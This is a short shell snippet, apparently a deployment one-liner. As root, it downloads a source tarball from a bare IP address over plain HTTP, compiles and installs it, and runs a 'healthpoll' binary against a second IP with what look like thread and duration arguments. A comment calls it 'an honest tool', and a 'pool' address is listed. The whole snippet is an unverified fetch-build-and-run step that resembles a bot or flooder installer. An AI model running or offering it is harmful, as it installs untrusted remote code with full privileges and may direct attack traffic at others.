# sources from the web, unpacked, compiled and run: an honest tool that asks its service
#http 203.0.113.73:8015
#pool 203.0.113.77:443:http
cd /root; curl -s http://203.0.113.73:8015/poll-src.tar.gz | tar xz; cd poll-src; make -s; make -s install; healthpoll 203.0.113.77 443 8 400
